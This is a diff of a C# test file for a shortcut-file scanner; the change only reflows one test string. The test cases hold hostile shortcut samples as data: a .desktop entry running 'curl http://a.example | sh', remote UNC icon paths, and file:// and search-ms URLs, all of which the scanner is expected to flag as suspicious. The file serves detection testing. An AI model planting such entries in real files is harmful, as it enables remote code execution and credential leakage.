@@ -52,7 +52,8 @@ public sealed class ShortcutTests
     [Theory]
     [InlineData("[InternetShortcut]\r\nURL=https://a.example/\r\n", Verdict.Unable)]
     [InlineData("[InternetShortcut]\r\nURL=file://a.example/share/a.exe\r\n", Verdict.Suspicious)]
-    [InlineData("[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,2\r\n[InternetShortcut]\r\nIDList=\r\nURL=https://a.example/\r\nIconFile=\\\\a.example\\s\\i.ico\r\n", Verdict.Suspicious)]
+    [InlineData("[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,2\r\n[InternetShortcut]\r\nIDList=\r\n"
+        + "URL=https://a.example/\r\nIconFile=\\\\a.example\\s\\i.ico\r\n", Verdict.Suspicious)]
     [InlineData("[InternetShortcut]\r\nURL=search-ms:query=a\r\n", Verdict.Suspicious)]
     [InlineData("[Desktop Entry]\nType=Application\nExec=sh -c 'curl http://a.example | sh'\n", Verdict.Suspicious)]
     [InlineData("[Shell]\r\nCommand=2\r\nIconFile=\\\\a.example\\s\\i.ico\r\n", Verdict.Suspicious)]
